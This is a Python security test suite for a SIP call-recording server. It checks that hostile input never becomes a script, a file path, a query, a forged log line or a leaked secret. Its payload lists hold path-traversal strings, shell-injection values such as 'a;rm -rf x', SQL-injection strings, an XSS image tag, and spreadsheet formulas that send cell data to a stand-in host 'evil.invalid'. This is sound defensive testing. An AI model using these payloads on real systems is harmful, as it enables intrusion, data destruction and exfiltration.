#!/usr/bin/env python3
"""Hostile texts, by real SIP inside a capture and by every field that people fill: no page runs them (G01), no file is named by them (G06),
no query is made of them (G02), no log line is forged by them (G23), and secrets are in no log (G24).

Run: EARWITNESS=build/release/earwitness python3 tests/test_hostile.py
"""
import csv
import io
import json
import os
import pathlib
import re
import shutil
import subprocess
import tempfile
import unittest
import urllib.parse

import hostile_sip
import support
from hostile_sip import FIELDS, PAYLOADS, payload
from server_support import PASSWORD, Server, wait_for_job

PANEL = pathlib.Path(__file__).resolve().parent / "panel"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def import_bytes(client, name, content, may_be_refused=False):
    answer = client.api("POST", "/imports?name=" + urllib.parse.quote(name, safe=""), content,
                        headers={"Content-Type": "application/octet-stream"})
    if may_be_refused and answer.status == 400:
        return None
    assert answer.status == 202, answer
    return wait_for_job(client, answer.json)


def finish_setup(client):
    """Whoever signs in before that is led through it."""
    key = client.api("POST", "/setup/recovery-key").json["recovery_key"]
    saved = client.api("POST", "/setup/recovery-key/saved", {"ending": key[-8:]})
    assert saved.status == 204, saved


def all_calls(client):
    return sorted(client.api("GET", "/calls?from=1970-01-01T00:00:00Z&limit=200").json["calls"], key=lambda call: call["start_at"])


@unittest.skipUnless(CHROMIUM, "chromium is not installed")
@unittest.skipUnless(shutil.which("npm"), "npm is not installed")
class Pages(unittest.TestCase):
    def test_no_payload_in_any_field_becomes_more_than_text(self):
        if not (PANEL / "node_modules").is_dir():
            subprocess.run(["npm", "ci", "--no-audit", "--no-fund", "--loglevel=error"], cwd=PANEL, check=True)
        server = Server('[recording]\ndefault = "all"\nlegal_ground = "<img src=x onerror=alert(1)>"\n')
        server.add_user("anna", "administrator", "listener", "auditor")
        with server:
            anna = server.client("anna")
            finish_setup(anna)
            file_names = [payload(index, "file") + ".pcap" for index in (0, 4, 10)]
            imported = import_bytes(anna, file_names[0], hostile_sip.attacks())
            self.assertEqual(imported["result"]["calls"], len(PAYLOADS))
            for name in file_names[1:]:
                self.assertEqual(import_bytes(anna, name, b"no capture" * 10)["state"], "failed")
            calls = all_calls(anna)
            self.assertEqual(len(calls), len(PAYLOADS))
            plan = {"calls": [], "filters": [], "pages": self.write_texts(anna, file_names)}
            for index, call in enumerate(calls):
                note = payload(index, "note")
                added = anna.api("POST", f"/calls/{call['call_id']}/notes", {"kind": "note", "text": note, "from_seconds": 0.5})
                self.assertEqual(added.status, 201, added)
                self.assertEqual(call["caller_name"], payload(index, "from_name"))
                fields = hostile_sip.attack_fields(index)
                plan["calls"].append({"call_id": call["call_id"], "texts": [note, payload(index, "from_name")],
                                      "messages": [fields[name] for name in FIELDS]})
            for index in range(0, len(PAYLOADS), 4):
                name = ("name", "number", "words", "codec")[index // 4 % 4]
                plan["filters"].append(name + "=" + urllib.parse.quote(payload(index, "filter")))
            path = server.folder / "plan.json"
            path.write_text(json.dumps(plan))
            done = subprocess.run(["node", "hostile.mjs", f"http://127.0.0.1:{server.port}", str(path)], cwd=PANEL, capture_output=True,
                                  text=True, timeout=900, check=False)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr[:6000] + server.log.read_text()[-2000:])
            self.assertIn(f"{len(PAYLOADS)} calls", done.stdout)

    def write_texts(self, anna, file_names):
        """What people type, each an attack; which page shows which of it."""
        self.assertEqual(anna.api("POST", "/session/confirm", {"password": PASSWORD}).status, 200)
        names = [payload(index, "display") for index in (4, 0, 21)]
        for number, name in enumerate(names):
            added = anna.api("POST", "/accounts", {"name": f"person{number}", "display_name": name[:100], "password": PASSWORD,
                                                   "roles": ["listener"]})
            self.assertEqual(added.status, 201, added)
        titles = [payload(index, "key") for index in (5, 22)]
        for title in titles:
            made = anna.api("POST", "/api-keys", {"title": title, "permissions": ["calls.read"], "expires_in_days": 1})
            self.assertEqual(made.status, 201, made)
        view = payload(13, "view")
        saved = anna.api("POST", "/views", {"name": view, "query": "range=all&name=" + urllib.parse.quote(payload(6, "query"))})
        self.assertIn(saved.status, (200, 201), saved)
        return [["/calls?range=all", []], ["/import", file_names], ["/audit", []], ["/settings/profile", []], ["/settings/recording", []],
                ["/settings/keys", []], ["/settings/accounts", names], ["/settings/api-keys", titles], ["/settings/system", []]]



# Names that a careless program would make a path, a header or a query of.
PATHS = ("../../etc/cron.d/x", "..\\..\\windows\\x", "%2e%2e%2f%2e%2e%2fetc%2fcron.d%2fx", "/etc/cron.d/x", "a\0b", "....//....//x", "C:\\x", "~/x",
         "a;rm -rf x", "$(touch x)", "`touch x`", "CON", ".", "..", "\u202egpj.exe", "\u0416\u4e2d\U0001f3a7", "x" * 4096, "a\";filename=\"b.exe")
QUERIES = ("'; DROP TABLE call; --", "' OR '1'='1", "\"; DELETE FROM call; --", "') UNION SELECT password_hash FROM account --", "%", "_", "\\", "*",
           "a' || (SELECT 1) || 'b", "1; ATTACH DATABASE '/tmp/x' AS x", "\u2019 OR 1=1", "Robert'); DROP TABLE students;--")
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.invalid?\"&A1)",
            "\t=1+1", "  =1+1", "\u00a0=1+1", "\uff1d1+1", "=IMPORTXML(CONCAT(\"//evil.invalid?\",A1),\"//a\")", "a\",=1+1,\"b", "\",\"=1+1", "=1+1;=2+2")
FORGED = "2026-01-01T00:00:00Z notice supervisor: Stopped"


class Names(unittest.TestCase):
    """One server that imported calls with PATHS as Call-ID, and QUERIES and FORMULAS as names and numbers."""

    @classmethod
    def setUpClass(cls):
        cls.server = Server('[recording]\ndefault = "all"\n')
        cls.server.add_user("anna", "administrator", "listener", "auditor")
        cls.server.start()
        cls.anna = cls.server.client("anna")
        paths = [hostile_sip.plain_fields(number, call_id=text) for number, text in enumerate(PATHS)]
        queries = [hostile_sip.plain_fields(100 + number, from_name=hostile_sip.quoted(text), from_user=hostile_sip.token(text))
                   for number, text in enumerate(QUERIES)]
        formulas = [hostile_sip.plain_fields(300 + number, from_name=hostile_sip.quoted(text), from_user=hostile_sip.token(text))
                    for number, text in enumerate(FORMULAS)]
        forged = [hostile_sip.plain_fields(200 + number, user_agent=f"Phone{ending}{FORGED}", subject=f"x{ending}{FORGED}\x1b[2J",
                                           reason_phrase="OK\x1b[31m") for number, ending in enumerate(("\n ", "\r ", "\x0b", "\u2028", "\x1b[1A"))]
        cls.wanted = len(paths) + len(queries) + len(formulas) + len(forged)
        content = hostile_sip.capture(paths + queries + formulas + forged)
        imported = import_bytes(cls.anna, "../../etc/cron.d/x.pcap", content)
        assert imported["state"] == "done", imported
        for name in PATHS + (f"a\n{FORGED}", f"a\r\n{FORGED}\x1b[2J"):
            import_bytes(cls.anna, name[:200], b"no capture at all" * 4, may_be_refused=True)
        cls.calls = all_calls(cls.anna)

    @classmethod
    def tearDownClass(cls):
        cls.server.__exit__()

    def test_no_cell_of_the_table_is_a_formula(self):
        """As text, and as a spreadsheet reads it: by commas, and by semicolons where the country writes numbers with a comma."""
        answer = self.anna.api("GET", "/calls/table?from=1970-01-01T00:00:00Z")
        self.assertEqual((answer.status, answer.headers["Content-Type"]), (200, "text/csv; charset=utf-8"))
        text = answer.body.decode("utf-8-sig")
        by_commas = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual({len(row) for row in by_commas}, {len(by_commas[0])})
        self.assertEqual(len(by_commas), self.wanted + 1)
        names = [row[by_commas[0].index("caller_name")] for row in by_commas]
        for formula in FORMULAS:
            self.assertTrue(any(name.replace("'", "") == formula.replace("'", "").replace("\t", " ") for name in names), formula)
        for rows in (by_commas, csv.reader(io.StringIO(text, newline=""), delimiter=";")):
            for cell in (cell for row in rows for cell in row):
                bare = re.sub(r"^[\s\u00a0\"]+", "", cell)
                self.assertTrue(re.fullmatch(r"\+\d+", bare) or bare[:1] not in set("=+-@|%\uff1d\uff0b\uff0d\uff20") or bare == "", repr(cell))

    def test_files_are_named_by_ids_alone(self):
        self.assertGreaterEqual(len(self.calls), self.wanted - 1)  # a NUL may cost a message its meaning
        for call in self.calls:
            for format_ in ("wav", "pcapng", "json"):
                answer = self.anna.api("GET", f"/calls/{call['call_id']}/export?format={format_}")
                self.assertEqual(answer.status, 200, answer)
                self.assertRegex(answer.headers["Content-Disposition"], rf'^attachment; filename="call-{call["call_id"]}\.{format_}"$')
        outside = {path.name for path in self.server.folder.iterdir()}
        self.assertEqual(outside, {"data", "keys", "log", "earwitness.toml"})
        name = re.compile(r"[A-Za-z0-9._-]{1,80}")
        for folder, folders, files in os.walk(self.server.data):
            for entry in folders + files:
                self.assertTrue(name.fullmatch(entry), f"{folder}/{entry!r}")
                self.assertNotIn("cron", entry)
        for path in ("/etc/cron.d/x", "/etc/cron.d/x.pcap", "x", "b.exe"):
            self.assertFalse(os.path.exists(path), path)

    def test_downloads_of_the_command_line_stay_where_they_were_sent(self):
        call = self.calls[0]["call_id"]
        with tempfile.TemporaryDirectory() as folder:
            done = self.server.command("export", call, "-o", os.path.join(folder, "out.wav"))
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertEqual(os.listdir(folder), ["out.wav"])

    def test_ids_that_are_paths_are_refused(self):
        for text in PATHS:
            address = urllib.parse.quote(text[:500], safe="")
            for path in (f"/calls/{address}", f"/calls/{address}/export?format=wav", f"/playback/{address}/audio.wav", f"/jobs/{address}"):
                answer = self.anna.api("GET", path)
                self.assertIn(answer.status, (400, 404, 414), path)

    def find(self, **filters):
        answer = self.anna.api("GET", "/calls?from=1970-01-01T00:00:00Z&limit=200&" + urllib.parse.urlencode(filters))
        self.assertIn(answer.status, (200, 400), answer)
        return answer.json.get("calls", [])

    def test_queries_are_texts(self):
        named = [call for call in self.calls if call["caller_name"] in QUERIES]
        self.assertEqual(len(named), len(QUERIES))
        for text in QUERIES:
            with self.subTest(text):
                # A word without a letter is none, and asks for nothing.
                for field in ("name", "number", "codec", "after") + (("words",) if re.search(r"\w", text.strip("_")) else ()):
                    self.assertLess(len(self.find(**{field: text})), len(self.calls), f"{field} let everything through")
                # Words are folded and a name is a part of one: what is found says so, by letters and digits.
                letters = re.sub(r"\W", "", text.lower())
                for call in self.find(name=text):
                    self.assertIn(letters, re.sub(r"\W", "", call["caller_name"].lower() + call["called_name"].lower()))
        self.assertEqual(all_calls(self.anna), self.calls, "nothing was dropped")
        self.assertIn("everything is as it was stored", self.server.command("verify").stdout)

    def test_log_lines_cannot_be_forged(self):
        log = self.server.log.read_bytes()
        for line in log.split(b"\n"):
            self.assertNotRegex(line, rb"[\x00-\x08\x0b-\x1f\x7f]")
            self.assertFalse(line.startswith(FORGED.encode()), line)
        for command in (("calls", "--limit", "200"), ("calls", "--json", "--limit", "200"), ("show", self.calls[-1]["call_id"])):
            done = self.server.command(*command)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertNotRegex(done.stdout, r"[\x00-\x08\x0b-\x1f\x7f]", command)


class Secrets(unittest.TestCase):
    """Canaries in every place where a secret passes: none is in a log, a figure, a job or the audit log (G24, G20)."""

    DIGITS = "71350468"

    def test_no_secret_is_written_down(self):
        with open(support.CAPTURES / "srtp.pcap", "rb") as file:
            encrypted = file.read()
        keys = {match.decode() for match in re.findall(rb"inline:([A-Za-z0-9+/=]{16,})", encrypted)}
        self.assertGreater(len(keys), 0)
        server = Server('[recording]\ndefault = "all"\n[log]\nlevel = "debug"\n')
        server.add_user("anna", "administrator", "listener", "auditor")
        with server:
            anna = server.client("anna")
            secrets = {PASSWORD, anna.cookie.split("=")[1], anna.csrf, *keys, self.DIGITS}
            wrong = "canary password of a stranger"
            self.assertEqual(server.client().sign_in("anna", wrong).status, 401)
            self.assertEqual(server.client().sign_in("canary-name-of-nobody", wrong).status, 401)
            secrets |= {wrong, "canary-name-of-nobody"}
            secrets.add(anna.api("POST", "/setup/recovery-key").json["recovery_key"])
            anna.api("POST", "/session/confirm", {"password": PASSWORD})
            secrets |= {anna.cookie.split("=")[1], anna.csrf}
            key = anna.api("POST", "/api-keys", {"title": "reader", "permissions": ["calls.read"], "expires_in_days": 1}).json["secret"]
            secrets |= {key, "ew_canary_that_is_no_key"}
            for bearer in (key, "ew_canary_that_is_no_key"):
                server.client(key=bearer).api("GET", "/calls")
            dialled = [hostile_sip.plain_fields(1, content_type="application/dtmf-relay", body=f"Signal={self.DIGITS}\r\nDuration=100")]
            self.assertEqual(import_bytes(anna, "srtp.pcap", encrypted)["state"], "done")
            self.assertEqual(import_bytes(anna, "digits.pcap", hostile_sip.capture(dialled))["state"], "done")
            call = next(call for call in all_calls(anna) if call["recordings"][0]["state"] == "recorded")
            grant = anna.api("POST", f"/calls/{call['call_id']}/playback", {}).json
            secrets.add(grant["token"])
            anna.request("GET", grant["url"], headers={"Range": "bytes=0-9999"})
            anna.request("GET", grant["url"] + "x")
            anna.api("GET", "/calls?name=" + urllib.parse.quote("canary search"))
            secrets.add("canary search")
            written = {"metrics": anna.request("GET", "/metrics").body.decode(),
                       "jobs": anna.api("GET", "/jobs").body.decode(),
                       "audit": anna.api("GET", "/audit?limit=200").body.decode()}
            self.assertEqual(server.stop(), 0)
            written["log"] = server.log.read_text()
            for where, text in written.items():
                for secret in secrets:
                    self.assertNotIn(secret, text, where)
            # At rest: no session, key or password in the database as it is used.
            stored = b"".join(path.read_bytes() for path in server.data.rglob("*") if path.is_file())
            for secret in secrets - {"canary search", self.DIGITS}:
                self.assertNotIn(secret.encode(), stored)


if __name__ == "__main__":
    unittest.main()
